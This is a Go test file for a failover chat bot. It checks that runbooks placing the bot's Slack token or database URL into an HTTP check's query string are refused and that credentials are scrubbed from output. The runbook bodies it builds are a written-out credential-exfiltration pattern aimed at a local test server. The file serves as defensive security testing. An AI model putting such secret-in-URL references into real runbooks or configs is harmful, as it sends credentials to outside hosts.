package app

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/failoverbot/failoverbot/internal/chat"
	"github.com/failoverbot/failoverbot/internal/chat/console"
	"github.com/failoverbot/failoverbot/internal/config"
)

const botToken = "xoxb-1-the-bots-own-token-0123"

// capture is a chat.Responder that keeps what the bot answered.
type capture struct {
	mu  sync.Mutex
	out strings.Builder
}

func (c *capture) Respond(_ context.Context, m chat.Message) error   { return c.add(m) }
func (c *capture) Ephemeral(_ context.Context, m chat.Message) error { return c.add(m) }
func (c *capture) add(m chat.Message) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.out.WriteString(console.Render(m) + "\n")
	return nil
}

// TestARunbookCannotReadTheBotsOwnCredentials is the exploit: a runbook
// puts the bot's Slack token into an HTTP check's URL, and `assess` (open
// to anyone who may use /failover) would send it to that host and echo it.
// The runbook is refused when it is loaded, naming the reference and why;
// the host sees nothing.
func TestARunbookCannotReadTheBotsOwnCredentials(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.String())
		mu.Unlock()
	}))
	defer srv.Close()
	dir := t.TempDir()
	rbDir := filepath.Join(dir, "runbooks")
	if err := os.Mkdir(rbDir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, ref := range map[string]string{"by-env": "${env:SLACK_BOT_TOKEN}", "by-secret": "${secret:SLACK_BOT_TOKEN}",
		"by-file-form": "${env:SLACK_BOT_TOKEN_FILE}", "by-store-url": "${secret:DATABASE_URL}"} {
		body := "name: " + name + "\nassess:\n  - id: exfil\n    kind: http.check\n    with: {url: \"" + srv.URL + "/?t=" + ref + "\", expect: up}\n" +
			"phases:\n  - id: p\n    steps:\n      - {id: s, kind: http.check, with: {url: \"" + srv.URL + "/\", expect: up}}\n"
		if err := os.WriteFile(filepath.Join(rbDir, name+".yaml"), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	env := map[string]string{"SLACK_BOT_TOKEN": botToken, "SLACK_BOT_TOKEN_FILE": "/var/run/slack/token",
		"DATABASE_URL": "postgres://bot:store-pw-0123@store/bot"}
	cfg := config.Default()
	cfg.RunbookDir, cfg.StorePath, cfg.Instance = rbDir, filepath.Join(dir, "bot.db"), "cred-test"
	cfg.Credentials = map[string]string{"SLACK_BOT_TOKEN": botToken}
	var logs bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	a, err := New(ctx, Options{Config: cfg, Poster: console.NewPoster(io.Discard), Directory: &console.StaticDirectory{Groups: cfg.Groups},
		Logger: slog.New(slog.NewTextHandler(&logs, nil)), Env: func(k string) (string, bool) { v, ok := env[k]; return v, ok }})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		cctx, ccancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer ccancel()
		_ = a.Close(cctx)
	}()
	out := &capture{}
	for _, name := range []string{"by-env", "by-secret", "by-file-form", "by-store-url"} {
		a.Handler.HandleCommand(ctx, chat.Request{User: chat.User{ID: "someone", Name: "someone"}, Channel: "#c", Text: "assess " + name}, out)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) > 0 {
		t.Errorf("the host received %d requests: %v", len(seen), seen)
	}
	all := out.out.String() + logs.String()
	for _, v := range env {
		if strings.Contains(all, v) {
			t.Errorf("a credential was shown:\n%s", all)
		}
	}
	for _, want := range []string{
		"${env:SLACK_BOT_TOKEN}: not allowed: SLACK_BOT_TOKEN is one of the bot's own credentials",
		"${secret:SLACK_BOT_TOKEN}: not allowed: SLACK_BOT_TOKEN is one of the bot's own credentials",
		"${env:SLACK_BOT_TOKEN_FILE}: not allowed: SLACK_BOT_TOKEN_FILE is one of the bot's own credentials",
		"${secret:DATABASE_URL}: not allowed: DATABASE_URL is one of the bot's own credentials",
	} {
		if !strings.Contains(logs.String(), want) {
			t.Errorf("the load error does not say %q:\n%s", want, logs.String())
		}
	}
}

// The bot's own credentials are known to the redactor from the start:
// whatever quotes one (a library's error, a panic) is scrubbed.
func TestTheBotsCredentialsAreScrubbedFromTheStart(t *testing.T) {
	dir := t.TempDir()
	cfg := config.Default()
	cfg.RunbookDir, cfg.StorePath, cfg.Instance = dir, filepath.Join(dir, "bot.db"), "cred-test"
	cfg.Credentials = map[string]string{"SLACK_BOT_TOKEN": botToken, "PAGERDUTY_TOKEN": "pd-token-0123456"}
	cfg.DatabaseURL = "postgres://bot:store-pw-0123@127.0.0.1:1/bot"
	red := Resolver(cfg, nil, nil).Redactor
	got := red.Scrub("auth " + botToken + " pd-token-0123456 password=store-pw-0123")
	if strings.Contains(got, "0123") {
		t.Fatalf("not scrubbed: %q", got)
	}
}
